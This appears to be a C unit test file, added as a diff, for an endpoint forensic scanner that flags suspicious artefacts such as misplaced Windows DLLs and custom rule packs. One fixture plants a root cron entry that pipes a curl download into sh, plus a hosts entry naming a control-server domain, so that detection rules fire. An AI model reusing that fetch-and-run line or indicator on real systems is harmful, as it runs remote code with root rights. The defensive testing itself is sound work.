@@ -1,0 +1,154 @@
+/* `raquet scan` with packs of artefacts, from its words to its report. */
+#include "bytes/test.h"
+
+#include "endpoint/command.h"
+#include "endpoint/sweep_scene.h"
+#include "endpoint/worker.h"
+#include "os/file.h"
+
+#include <jansson.h>
+#include <string.h>
+#include <sys/stat.h>
+
+static char folder[128], report[128], pack[128];
+
+static int begin(void **state)
+{
+	if (scene_make(state) != 0)
+		return 1;
+	scene_folder("swept");
+	scene_folder("swept/Windows");
+	snprintf(folder, sizeof folder, "%s/swept", scene_top);
+	snprintf(report, sizeof report, "%s/report", scene_top);
+	snprintf(pack, sizeof pack, "%s/own.artefact", scene_top);
+	return 0;
+}
+
+/* Runs `raquet scan` over the folder; "rule where, rule where" of its findings. */
+static int scan(const char *option, const char *value, const char *language,
+		char *found, size_t size)
+{
+	const char *const given[] = {"--format", "jsonl", "--lang",    language,
+				     "--output", report,  "--threads", "1",
+				     folder,     option,  value};
+	char *words[16];
+	struct words all = {0, words};
+	struct buffer text = {0};
+	char *line;
+	int code;
+
+	for (size_t i = 0; i < sizeof given / sizeof given[0] && given[i] != NULL; i++)
+		words[all.n++] = (char *)(uintptr_t)given[i];
+	code = command_scan.run(&all);
+	found[0] = 0;
+	if (code == EXIT_USAGE)
+		return code;
+	assert_int_equal(file_read_whole(report, &text, NULL), RQ_OK);
+	buffer_u8(&text, 0);
+	for (line = strtok((char *)text.data, "\n"); line; line = strtok(NULL, "\n")) {
+		json_t *event = json_loads(line, 0, NULL);
+		json_t *meta = json_object_get(event, "meta"), *pair;
+		size_t i, n = strlen(found);
+
+		if (json_object_get(event, "rule") != NULL)
+			snprintf(found + n, size - n, "%s%s", n > 0 ? ", " : "",
+				 json_string_value(json_object_get(event, "rule")));
+		json_array_foreach(meta, i, pair)
+		{
+			n = strlen(found);
+			if (strcmp(json_string_value(json_array_get(pair, 0)),
+				   "where") == 0)
+				snprintf(found + n, size - n, " %s",
+					 json_string_value(json_array_get(pair, 1)));
+		}
+		json_decref(event);
+	}
+	buffer_free(&text);
+	return code;
+}
+
+static void put_windows(const char *inside, const char *name, const char *text)
+{
+	char path[128];
+
+	snprintf(path, sizeof path, "swept/Windows/%s", inside);
+	scene_folder(path);
+	snprintf(path, sizeof path, "swept/Windows/%s/%s", inside, name);
+	if (text != NULL)
+		scene_put(path, text);
+	else
+		assert_int_equal(mkfifo(scene_path(path), 0600), 0);
+}
+
+static void the_same_name_is_found_where_it_is_wrong(void **state)
+{
+	char found[512];
+
+	(void)state;
+	put_windows("System32", "netapi32.dll", "x");
+	assert_int_equal(scan(NULL, NULL, "en", found, sizeof found), EXIT_CLEAN);
+	assert_string_equal(found, "");
+	put_windows("apppatch", "netapi32.dll", "x");
+	assert_int_equal(scan(NULL, NULL, "en", found, sizeof found), EXIT_FOUND);
+	assert_string_equal(found, "netapi32_in_apppatch");
+}
+
+static void what_cannot_be_read_is_found_by_its_name(void **state)
+{
+	char found[512];
+
+	(void)state;
+	put_windows("apppatch", "netapi32.dll", NULL);
+	assert_int_equal(scan(NULL, NULL, "en", found, sizeof found), EXIT_FOUND);
+	assert_string_equal(found, "netapi32_in_apppatch");
+}
+
+static void a_start_point_is_read_on_a_mounted_disk(void **state)
+{
+	char found[512];
+
+	(void)state;
+	scene_folder("swept/etc");
+	scene_folder("swept/etc/cron.d");
+	scene_put("swept/etc/cron.d/good", "@daily root /usr/bin/good\n");
+	scene_put("swept/etc/cron.d/bad", "@daily root curl x | sh\n");
+	scene_put("swept/etc/hosts", "1.2.3.4 a.VGCA.homeunix.org.\n");
+	assert_int_equal(scan(NULL, NULL, "en", found, sizeof found), EXIT_FOUND);
+	assert_string_equal(found, "task_fetches_and_runs bad: curl x | sh, "
+				   "control_server a.VGCA.homeunix.org.");
+}
+
+static void another_pack_stands_beside_the_shipped_ones(void **state)
+{
+	static const char text[] =
+	    "pack: own\ndate: 2026-01-01\n[mine]\nfile: **\\note.txt\nsize: 1..4\n"
+	    "severity: low\ndescription.vi: a\ndescription.en: b\nadvice.vi: c\n"
+	    "advice.en: d\n";
+	char found[512];
+
+	(void)state;
+	scene_put("own.artefact", text);
+	scene_put("swept/note.txt", "1234");
+	put_windows("apppatch", "netapi32.dll", "x");
+	assert_int_equal(scan("--artefacts", pack, "vi", found, sizeof found),
+			 EXIT_FOUND);
+	assert_string_equal(found, "netapi32_in_apppatch, mine");
+	scene_put("own.artefact", "pack: own\n");
+	assert_int_equal(scan("--artefacts", pack, "vi", found, sizeof found),
+			 EXIT_USAGE);
+}
+
+#define CASE(test) cmocka_unit_test_setup_teardown(test, begin, scene_remove)
+
+int main(int argc, char **argv)
+{
+	const struct CMUnitTest tests[] = {
+	    CASE(the_same_name_is_found_where_it_is_wrong),
+	    CASE(what_cannot_be_read_is_found_by_its_name),
+	    CASE(a_start_point_is_read_on_a_mounted_disk),
+	    CASE(another_pack_stands_beside_the_shipped_ones)};
+
+	if (argc > 1 && strcmp(argv[1], "worker") == 0)
+		return worker_main(argc, argv);
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
